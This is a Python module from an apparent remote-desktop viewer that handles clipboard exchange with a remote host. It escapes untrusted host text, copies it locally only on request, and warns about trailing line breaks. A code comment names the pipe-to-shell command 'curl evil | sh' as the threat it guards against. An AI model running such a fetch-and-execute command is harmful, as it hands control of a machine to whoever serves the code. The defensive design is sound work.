"""``screencodec view``'s clipboard (clip39; the session's rules are in
transport/session/clipboard.py): the host's user's clipboard text that
comes, kept for ``/clip show`` and ``/clip take`` (which puts it on this
machine's clipboard, X11 through xclip: cli/clipboard_x11.py; never
without the agent's asking: clipfix39); and ``/clip``,
which puts this machine's clipboard on the host's while the agent holds
control.

The host's text is a stranger's: never printed raw. ``/clip show`` prints
it line by line through ``safe_text`` (an escape sequence in it is shown
as ``?``, never run by this terminal).
"""

from __future__ import annotations

import asyncio
from typing import Any

from screencodec.cli.clipboard_x11 import PASTE_KEYS, XClipboard, x11_clipboard
from screencodec.cli.terminal import tell
from screencodec.errors import ScreencodecError
from screencodec.transport.channel.display import safe_text
from screencodec.transport.session.clipboard import ClipboardError
from screencodec.transport.session.events import (
    ClipboardReceived,
    ClipboardRefused,
    ClipboardSet,
)

__all__ = ["FIRST_PICTURE_WAIT", "SHOWN_LINES", "ViewClipboard"]

#: Lines of the host's text ``/clip show`` prints at most (each cut at 1000).
SHOWN_LINES = 200
#: How long ``/clip`` waits, on a link that took the session up again, for
#: the host's first picture there: the host refuses what comes before it
#: as typed blind (transport/session/input_gate.py). It comes within a
#: round trip; a host that never sends it has the text refused, and said so.
FIRST_PICTURE_WAIT = 10.0


def _chars(n: int) -> str:
    return f"{n} character{'' if n == 1 else 's'}"


class ViewClipboard:
    """The agent's terminal's clipboard: ``own``, this machine's (None: it
    has none, ``why`` says why), ``last``, the host's last text."""

    def __init__(self, own: XClipboard | str | None = None) -> None:
        own = x11_clipboard() if own is None else own
        self.own: XClipboard | None = None if isinstance(own, str) else own
        self.why = own if isinstance(own, str) else ""
        self.last: str | None = None

    async def event(self, ev: Any) -> bool:
        """Tell a clipboard event; False if ``ev`` is none."""
        if isinstance(ev, ClipboardReceived):
            await self._received(ev)
        elif isinstance(ev, ClipboardSet):
            tell(f"your clipboard ({_chars(ev.characters)}) is on the host's clipboard:"
                 f" there, {PASTE_KEYS}")  # fmt: skip
        elif isinstance(ev, ClipboardRefused):
            tell(f"(not put on the host's clipboard: {safe_text(ev.why, 200)})")
        else:
            return False
        return True

    async def _received(self, ev: ClipboardReceived) -> None:
        # Never put on this machine's clipboard unasked (clipfix39): the host
        # is a stranger, and their "curl evil | sh\n" pasted by the agent in
        # their own terminal would run there. /clip take puts it there.
        self.last = ev.text
        how = " (they copied it while you control their screen)" if ev.reason == "sync" else ""
        take = "/clip take puts it on your clipboard, " if self.own is not None else ""
        tell(f"host's clipboard ({_chars(ev.characters)}) received{how}: {take}/clip show"
             " shows it")  # fmt: skip

    async def _take(self) -> None:
        """``/clip take``: the host's last text on this machine's clipboard."""
        if self.last is None:
            tell("(the host's user has sent no clipboard text)")
            return
        if self.own is None:
            tell(f"(not taken: this computer's clipboard cannot be set: {self.why};"
                 " /clip show shows it)")  # fmt: skip
            return
        try:
            await asyncio.to_thread(self.own.set_text, self.last)
        except (OSError, ScreencodecError) as exc:
            tell(f"(not taken: {safe_text(exc, 200)}; /clip show shows it)")
            return
        tell(f"the host's clipboard ({_chars(len(self.last))}) is on your clipboard")

    async def command(self, viewer: Any, arg: str) -> None:
        """``/clip show`` prints the host's last text, ``/clip take`` puts it
        on this machine's clipboard; ``/clip`` sends this machine's
        clipboard to the host's."""
        word = arg.strip().lower()
        if word == "show":
            self._show()
        elif word == "take":
            await self._take()
        elif word:
            tell("(usage: /clip sends your clipboard to the host's; /clip show prints the"
                 " host's last one; /clip take puts it on your clipboard)")  # fmt: skip
        else:
            await self._send(viewer)

    def _show(self) -> None:
        if self.last is None:
            tell("(the host's user has sent no clipboard text)")
            return
        lines = self.last.splitlines() or [""]
        tell(f"--- host's clipboard ({_chars(len(self.last))}) ---")
        for line in lines[:SHOWN_LINES]:
            tell(safe_text(line, 1000))
        if len(lines) > SHOWN_LINES:
            tell(f"... {len(lines) - SHOWN_LINES} more lines")
        elif self.last[-1:] in ("\n", "\r"):
            # The lines alone hide it (review39c; the page shows "\n").
            tell("(it ends with a line break: pasted in a terminal, its last line runs at once)")
        tell("--- end ---")

    async def _send(self, viewer: Any) -> None:
        if self.own is None:
            tell(f"(not sent: this computer's clipboard cannot be read: {self.why})")
            return
        try:
            text = await asyncio.to_thread(self.own.get_text)
            if text is None:
                raise ClipboardError("your clipboard holds no text")
            await _first_picture(viewer)
            await viewer.send_clipboard(text)
        except (OSError, ScreencodecError) as exc:
            tell(f"(not sent: {safe_text(exc, 200)})")
            return
        # walk40: it said "sent your clipboard (N characters) for the host's".
        tell(f"sent your clipboard ({_chars(len(text))}) to the host")


async def _first_picture(viewer: Any) -> None:
    """Once ``viewer`` has seen a picture on its link (``blind`` cleared as
    its first receipt goes), or :data:`FIRST_PICTURE_WAIT` passed. flake40:
    ``/clip`` typed as "back in the session" was said, to a host that the
    machine ran late, was refused as sent before the agent held control."""
    loop = asyncio.get_running_loop()
    until = loop.time() + FIRST_PICTURE_WAIT
    while getattr(viewer, "blind", False) and loop.time() < until:
        await asyncio.sleep(0.02)  # the receipt is sent on this loop: no event to wait on
